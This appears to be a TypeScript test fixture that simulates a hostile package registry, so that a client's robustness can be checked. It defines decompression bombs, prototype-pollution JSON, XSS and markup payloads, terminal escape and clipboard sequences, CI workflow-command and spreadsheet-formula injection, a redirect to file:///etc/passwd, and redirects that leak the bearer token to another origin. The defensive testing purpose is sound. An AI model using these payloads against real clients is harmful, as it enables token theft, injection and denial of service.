/** Behaviours inside of well-formed HTTP: status, headers and bodies that are meant to harm whoever reads them. */
import { brotliCompressSync, constants, gzipSync } from "node:zlib";
import {
  type Behaviour,
  changed,
  type Conforming,
  json,
  mapTexts,
  ofText,
  once,
  type Occasion,
  problem,
} from "./behaviour.ts";

const megabyte = 1024 * 1024;

type Answer = Behaviour["answer"];

function at(place: Behaviour["place"], name: string, summary: string, answer: Answer): Behaviour {
  return { name, place, summary, answer };
}

function encoded(coding: string, body: Buffer): Conforming {
  return {
    status: 200,
    headers: [
      ["content-type", "application/json"],
      ["content-encoding", coding],
    ],
    body,
  };
}

/** What a report, a terminal, a browser or a shell might mistake for its own. */
export const injections = {
  terminal: "\u001B[2J\u001B]0;owned\u0007\u001B]52;c;b3duZWQ=\u0007\u009B31m\r\u0008",
  markup:
    "</script><script>window.owned=1</script>\"'><img src=x onerror=owned()>]]><!--|`**[a](javascript:owned())",
  text: "\u0000\uFEFF\u202Eevil\u2066\uFFFE\uD800 ::error file=x::owned %0A%s $(owned) =cmd|'/C calc'!A0",
} as const;

/** Words of different lengths, so that one of the commands begins a line wherever lines end. */
const workflowCommands: string = Array.from(
  { length: 40 },
  (_, index) => `${"x".repeat(index % 13)} ::stop-commands::x ##[error]x ##vso[task.complete]x`,
).join(" ");

function injecting(text: string): Answer {
  return (occasion: Occasion) => changed(occasion, (body) => mapTexts(body, (own) => `${own}${text}`));
}

const pollution =
  '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"items":[{"__proto__":{"polluted":1}}],"total":1,"limit":1,"offset":0}';

/** Big bodies are made once: a hostile registry does not care, but our tests do. */
const huge = once(() => ({
  objects: `{"items":[${"{},".repeat(megabyte / 2)}{}],"total":1,"limit":1,"offset":0}`,
  text: `{"items":[{"name":"${"x".repeat(megabyte)}"}],"total":1,"limit":1,"offset":0}`,
  deep: `{"items":${"[".repeat(500_000)}${"]".repeat(500_000)},"total":0,"limit":1,"offset":0}`,
  keys: `{${Array.from({ length: 60_000 }, (_, index) => `"k${index}":0`).join(",")}}`,
}));

const bombs = {
  gzip: once(() => gzipSync(gzipSync(Buffer.alloc(64 * megabyte)))),
  brotli: once(() =>
    brotliCompressSync(Buffer.alloc(64 * megabyte), { params: { [constants.BROTLI_PARAM_QUALITY]: 1 } }),
  ),
} as const;

export const contentBehaviours: readonly Behaviour[] = [
  at("search", "unknown-coding", "labels the body with an unknown content coding", () =>
    encoded("zap", Buffer.from("{}")),
  ),
  at("search", "gzip-bomb", "unpacks to 64 MiB, twice gzipped", () => encoded("gzip, gzip", bombs.gzip())),
  at("search", "brotli-bomb", "unpacks to 64 MiB", () => encoded("br", bombs.brotli())),
  at("search", "damaged-gzip", "labels a body as gzip that is not gzip", () =>
    encoded("gzip", Buffer.from("{}")),
  ),
  at("search", "huge-json", "sends a megabyte and more of empty objects", () => ofText(huge().objects)),
  at("search", "huge-text", "sends a name of a megabyte", () => ofText(huge().text)),
  at("search", "many-members", "sends an object of 60,000 members", () => ofText(huge().keys)),
  at("search", "deep-json", "nests half a million arrays", () => ofText(huge().deep)),
  at("release", "deep-release", "nests two hundred objects under a member", (occasion) =>
    changed(occasion, (body) => ({
      ...(body as object),
      extra: Array.from({ length: 200 }).reduce((inner) => ({ inner }), 1),
    })),
  ),
  at("search", "proto-members", "names members __proto__ and constructor", () => ofText(pollution)),
  at("anywhere", "proto-everywhere", "adds __proto__ to every document", async (occasion) => {
    const conforming = await occasion.conforming();
    const text = conforming.body.toString("utf8");
    return text.startsWith("{")
      ? { ...conforming, body: Buffer.from(`{"__proto__":{"polluted":1},${text.slice(1)}`) }
      : conforming;
  }),
  at("search", "numbers", "sends numbers that do not fit a double", () =>
    ofText('{"items":[],"total":1e999,"limit":123456789012345678901234567890,"offset":-0.0}'),
  ),
  at("search", "duplicate-members", "sends each member twice", () =>
    ofText('{"items":[],"items":{},"total":0,"total":"0","limit":1,"offset":0}'),
  ),
  at("search", "json-null", "sends null instead of an object", () => json(null)),
  at("release", "json-number", "sends a number instead of an object", () => json(42)),
  at("index", "items-as-object", "sends items as an object with a length", () =>
    json({ items: { length: 1e9, 0: {} } }),
  ),
  at("anywhere", "wrong-types", "sends every text as an object that cannot be turned into one", (occasion) =>
    changed(occasion, (body) =>
      mapTexts(body, () => ({ toString: null, valueOf: 1, toJSON: "x", length: -1 })),
    ),
  ),
  at(
    "anywhere",
    "terminal-escapes",
    "puts terminal escape sequences into every text",
    injecting(injections.terminal),
  ),
  at("anywhere", "markup", "puts HTML, Markdown and XML into every text", injecting(injections.markup)),
  at(
    "anywhere",
    "workflow-commands",
    "puts commands of CI services into every text, so that some begin a wrapped line",
    injecting(workflowCommands),
  ),
  at(
    "anywhere",
    "control-characters",
    "puts control, direction and surrogate characters into every text",
    injecting(injections.text),
  ),
  at("anywhere", "header-injection", "puts escapes and markup into every header", async (occasion) => {
    const conforming = await occasion.conforming();
    return {
      ...conforming,
      headers: [
        ...conforming.headers,
        ["x-note", "<script>owned()</script>\u009B31m"],
        ["warning", "`|**owned**"],
      ],
    };
  }),
  at("anywhere", "echoes-token", "sends the token back in body and headers, plain and in base64", echoToken),
  at(
    "anywhere",
    "says-token",
    "puts the last token it received into every text of every document",
    sayToken(),
  ),
  at("anywhere", "cookies", "sets cookies with every answer", async (occasion) => {
    const conforming = await occasion.conforming();
    return {
      ...conforming,
      headers: [...conforming.headers, ["set-cookie", "session=owned-session-value; HttpOnly"]],
    };
  }),
  at("search", "html-error", "answers 500 with a page", () =>
    ofText("<html><script>owned()</script></html>", 500, "text/html"),
  ),
  at("search", "status-999", "answers with a status outside HTTP", () => ofText("{}", 999)),
  at("search", "empty-body", "answers 200 with an empty body", () => ({
    status: 200,
    headers: [],
    body: Buffer.alloc(0),
  })),
  at("search", "not-utf8", "sends JSON in bytes that are not UTF-8", () => ({
    status: 200,
    headers: [["content-type", "application/json"]],
    body: Buffer.from('{"a":"\u00ff"}', "latin1"),
  })),
  at("search", "limits-for-ever", "answers 429 to everything, with `Retry-After` of a day", () =>
    problem("rate-limited", 429, [["retry-after", "86400"]]),
  ),
  at("search", "limits-at-once", "answers 429 to everything, with `Retry-After` of zero", () =>
    problem("rate-limited", 429, [["retry-after", "0"]]),
  ),
  at("search", "overloaded", "answers 503 to everything", () => ofText("busy", 503, "text/plain")),
  at("release", "always-404", "answers 404 for every new release", () => problem("not-found", 404)),
  at("release", "always-401", "asks for a token on reads", () => problem("authentication-required", 401)),
  at("upload", "upload-forbidden", "answers 403 to every upload", () => ofText("no", 403, "text/plain")),
  at("search", "redirects-to-itself", "redirects to the same place without end", ({ path }) =>
    redirect(path),
  ),
  at("search", "redirects-onward", "redirects to a new place each time", ({ ordinal, path }) =>
    redirect(`${path.split("?")[0] ?? ""}?page=${ordinal}`),
  ),
  at("search", "redirects-elsewhere", "redirects to another origin", ({ elsewhere }) =>
    redirect(`${elsewhere}/stolen`),
  ),
  at("search", "redirects-to-a-file", "redirects to a file", () => redirect("file:///etc/passwd")),
  at("search", "redirects-to-nonsense", "redirects to an invalid URL", () => redirect("http://[oops:99999")),
  at(
    "release",
    "redirects-with-token",
    "redirects to another origin, with the token it was sent in the path",
    ({ elsewhere, authorization }) =>
      redirect(`${elsewhere}/stolen?${new URLSearchParams({ authorization }).toString()}`),
  ),
];

function redirect(location: string): Conforming {
  return { status: 302, headers: [["location", location]], body: Buffer.alloc(0) };
}

/** Reads come without a token: what the registry was sent before is what it says in their answers. */
function sayToken(): Answer {
  let last = "";
  return (occasion) => {
    const token = occasion.authorization.replace(/^Bearer /, "");
    if (token !== "") last = token;
    return changed(occasion, (body) =>
      mapTexts(body, (own) => (/^(?:https?:|pkg:)/.test(own) ? `${own}/${last}` : last)),
    );
  };
}

async function echoToken(occasion: Occasion): Promise<Conforming> {
  const { authorization } = occasion;
  const conforming = await changed(occasion, (body) =>
    typeof body === "object" && body !== null
      ? { ...body, echo: authorization, coded: Buffer.from(authorization).toString("base64") }
      : body,
  );
  if (authorization === "") return conforming;
  return {
    ...conforming,
    headers: [
      ...conforming.headers,
      ["x-echo", authorization],
      ["x-coded", Buffer.from(authorization).toString("hex")],
    ],
  };
}
